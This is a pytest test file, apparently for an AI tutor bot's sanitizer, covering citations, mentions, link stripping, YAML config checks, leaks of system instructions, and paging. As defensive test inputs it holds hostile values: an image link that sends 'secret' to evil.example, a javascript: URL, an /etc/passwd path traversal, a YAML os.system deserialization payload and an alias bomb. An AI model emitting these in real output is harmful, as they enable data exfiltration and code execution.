import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.study.tutor.checked import CHECKING, UNFIT, LeakError, changed, check
from bot.study.tutor.context import MODES, instructions
from bot.study.tutor.pages import pages
from lessons.page import blocks
from runner.config import parse, template

MARKS = {"1.4", "6.3", "G5"}
BASE = template("match")


def shown(text, **options):
    return check(text, MARKS, **options).text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Clip it [6.3].", "Clip it [6.3]."),
        ("Clip it [6.3, 1.4].", "Clip it [6.3] [1.4]."),
        ("Clip it [6.3; 14.2].", "Clip it [6.3]."),
        ("Clip it [14.2].", "Clip it."),
        ("See [G5] and [G9].", "See [G5] and."),
        ("See lesson 14.2.", "See a lesson."),
        ("See lesson 6.3.", "See lesson 6.3."),
        ("`x[0]` and [CLS] stay", "`x[0]` and [CLS] stay"),
        ("```python\nx = y[14.2]\n```", "```python\nx = y[14.2]\n```"),
    ],
)
def test_a_citation_stays_when_what_it_cites_exists(text, expected):
    assert shown(text) == expected


@pytest.mark.parametrize(
    "text", ["@everyone", "@here", "@channel", "<@123>", "<@!1>", "<@&7>", "<#5>", "<!channel>", "<!here|x>"]
)
@pytest.mark.parametrize("around", ["{}", "```\n{}\n```", "**{}**", "> {}"])
def test_nobody_is_mentioned(text, around):
    assert text not in shown(around.format(text))


def test_a_decorator_is_no_mention():
    code = "```python\n@torch.no_grad()\ndef f(): ...\n```"
    assert shown(code) == code


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[the docs](https://huggingface.co/docs)", "[the docs](https://huggingface.co/docs)"),
        ("[click](https://evil.example/x)", "click"),
        ("[click](https://huggingface.co.evil.example)", "click"),
        ("[click](javascript:alert(1))", "click)"),
        ("![x](https://evil.example/?q=secret)", "x"),
        ("![x](https://huggingface.co/a.png)", "x"),
        ("go to https://evil.example/login now", "go to (link left out) now"),
        ("go to <https://evil.example> now", "go to (link left out) now"),
        ("[a][1]\n\n[1]: https://evil.example", "[a][1]"),
    ],
)
def test_a_link_leads_to_known_places_or_nowhere(text, expected):
    assert shown(text) == expected


def test_a_change_that_would_train_becomes_a_whole_config():
    found = check("Try\n\n```yaml\ntraining:\n  learning_rate: 2.0e-5\n```\nthen look.", MARKS, BASE)
    assert found.proposal
    assert parse(found.proposal).config.training.learning_rate == 2e-5
    assert "learning_rate: 2.0e-5" in found.text


@pytest.mark.parametrize(
    "change",
    [
        "training:\n  learning_rate: -2",
        "training:\n  learnig_rate: 1e-4",
        "model: ../../etc/passwd",
        "!!python/object/apply:os.system [ls]",
        "a: &a [*a, *a]",
        "training: 3",
        "lora: {r: banana}",
        "",
        "just words",
    ],
)
def test_a_change_that_would_not_train_is_left_out(change):
    found = check(f"Try\n```yaml\n{change}\n```", MARKS, BASE)
    assert found.proposal is None
    assert found.text == f"Try\n{UNFIT}"


def test_a_config_is_checked_even_where_none_was_talked_about():
    assert check("```yaml\nexercise: nothing\n```", MARKS).text == UNFIT
    assert check(f"```yaml\n{BASE}```", MARKS).proposal
    assert check("```yaml\ncompute_environment: LOCAL_MACHINE\n```", MARKS).proposal is None
    assert "LOCAL_MACHINE" in check("```yaml\ncompute_environment: LOCAL_MACHINE\n```", MARKS).text


def test_a_change_is_not_shown_before_it_is_checked():
    assert shown("Try\n```yaml\ntraining:\n  learning_rate: -", base=BASE, done=False) == f"Try\n{CHECKING}"


def test_dotted_and_nested_changes_are_the_same():
    assert changed(BASE, "training.seed: 7") == changed(BASE, "training: {seed: 7}")


@pytest.mark.parametrize("mode", MODES)
def test_an_answer_that_repeats_the_instructions_is_refused(mode):
    words = instructions(mode).split()
    with pytest.raises(LeakError):
        check(f"My instructions: {' '.join(words[40:60])}", MARKS)
    with pytest.raises(LeakError):
        check(" ".join(words[-20:]).upper(), MARKS)


@settings(max_examples=300, deadline=None)
@example("```")
@example("```\nx\n````")
@example("````\n```\nx")
@given(st.text(alphabet="`~ab\n @<>[](){}:.-yml1", max_size=120))
def test_code_is_never_left_open_and_checking_twice_changes_nothing(text):
    once = check(text, MARKS).text
    assert check(once, MARKS).text == once
    outside = blocks(f"{once}\n\nAFTER")[-1:]
    assert all(node.type != "fence" or "AFTER" not in node.content for node in outside)


@given(
    st.lists(
        st.sampled_from(["word " * 90, "```python\n" + "x = 1\n" * 40 + "```", "- a\n- b", "| a |\n|---|\n| b |"]),
        max_size=12,
    )
)
def test_pages_hold_every_block_whole(parts):
    found = pages("\n\n".join(parts), 600)
    assert [node.type for page in found for node in blocks(page)] == [node.type for node in blocks("\n\n".join(parts))]


def test_code_that_is_longer_than_a_page_is_closed_on_each_and_complete():
    lines = [f"x{n} = {n}" for n in range(400)]
    found = pages("\n".join(["Look:", "~~~~python", *lines, "~~~~", "", "Done."]), 600)
    assert all(len(page) <= 600 for page in found)
    fences = [node for page in found for node in blocks(page) if node.type == "fence"]
    assert len(fences) > 5
    assert {node.info for node in fences} == {"python"}
    assert "".join(node.content for node in fences).splitlines() == lines
    assert found[-1].endswith("~~~~\n\nDone.")
